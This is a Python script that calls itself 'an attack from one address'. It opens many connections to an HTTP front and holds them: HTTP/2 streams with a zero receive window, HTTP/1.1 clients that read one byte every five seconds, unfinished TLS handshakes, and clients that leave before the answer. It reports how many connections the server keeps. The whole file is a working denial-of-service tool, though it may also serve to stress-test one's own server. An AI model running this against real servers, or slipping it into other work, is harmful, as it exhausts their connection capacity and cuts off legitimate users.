"""Clients that hold on to what a front has, and read nothing: an attack from one address.

    python holding.py streams HOST PORT 10 60 /page  # HTTP/2 connections that give no room for answers
    python holding.py readers HOST PORT 500 60 /page  # HTTP/1.1 clients that read a byte every five seconds
    python holding.py hellos HOST PORT 4000 60        # connections that begin a TLS handshake
    python holding.py leavers HOST PORT 900 0 /page   # HTTP/1.1 clients that leave before the answer
    python holding.py leaving_streams HOST PORT 90 0 /page  # the same over HTTP/2

Only the standard library, so that it runs in any container with Python: a container has an address of its own.
It prints how many connections are held, and what became of the others.
"""

import selectors
import socket
import ssl
import struct
import sys
import time
from collections import Counter

# RFC 9113
# Of each connection: fewer than servers allow.
STREAMS = 60
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
INITIAL_WINDOW_SIZE = 4
KINDS = {HEADERS: "answers", RST_STREAM: "resets", GOAWAY: "goaways"}


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return a frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def requests(name: str, path: str) -> bytes:
    """Return what a client sends first: a window of 0 for each stream, and then all requests."""
    words = [b"\x82\x87"]  # GET, https; then :authority and :path, as literals of HPACK
    for index, text in ((1, name), (4, path)):
        words.append(bytes([index, len(text)]) + text.encode())
    first = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    first += frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    first += frame(SETTINGS, 1, 0, b"")
    end_of_stream_and_headers = 5
    return first + b"".join(
        frame(HEADERS, end_of_stream_and_headers, 1 + 2 * number, b"".join(words))
        for number in range(STREAMS)
    )


class Client:
    """One connection of the attack."""

    def __init__(self, kind: str, host: str, port: int, path: str):
        self.kind = kind
        self.received = b""
        self.socket = socket.create_connection((host, port), timeout=10)
        if kind == "hellos":
            self.socket.sendall(b"\x16\x03\x01\x02\x00")
            return
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2" if "streams" in kind else "http/1.1"])
        name = "localhost"
        self.socket = context.wrap_socket(self.socket, server_hostname=name)
        plain = f"GET {path} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode()
        self.socket.sendall(requests(name, path) if "streams" in kind else plain)

    def receive(self, counts: Counter[str]) -> bool:
        """Read a byte, or count all frames that have arrived; return whether the connection lives."""
        self.socket.settimeout(0.01)
        try:
            if self.kind != "streams":
                return bool(self.socket.recv(1))
            while data := self.socket.recv(65536):
                self.received += data
        except (TimeoutError, ssl.SSLWantReadError):
            self.count_frames(counts)
            return True
        except OSError:
            pass
        self.count_frames(counts)
        return False

    def count_frames(self, counts: Counter[str]) -> None:
        """Count the complete frames of HTTP/2 by their kind, and forget them."""
        while len(self.received) >= 9:
            end = 9 + int.from_bytes(self.received[:3], "big")
            if len(self.received) < end:
                break
            counts[KINDS.get(self.received[3], "other frames")] += 1
            self.received = self.received[end:]


def main(kind: str, host: str, port: str, clients: str, seconds: str, path: str = "/") -> None:
    """Hold as many connections as the front allows, for so many seconds, or leave each at once."""
    if kind.startswith("leav"):
        for _ in range(int(clients)):
            client = Client(kind, host, int(port), path)
            time.sleep(0.02)
            client.socket.close()
        return
    counts: Counter[str] = Counter()
    waiting = selectors.DefaultSelector()
    for _ in range(int(clients)):
        try:
            client = Client(kind, host, int(port), path)
            waiting.register(client.socket, selectors.EVENT_READ, client)
        except OSError as error:
            counts[f"refused: {type(error).__name__}"] += 1
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for key, _ in waiting.select(1):
            if not key.data.receive(counts):
                counts["closed"] += 1
                waiting.unregister(key.fileobj)
                key.data.socket.close()
        print(f"{len(waiting.get_map())} held", dict(counts), flush=True)
        time.sleep(5 if kind == "readers" else 1)


if __name__ == "__main__":
    main(*sys.argv[1:])
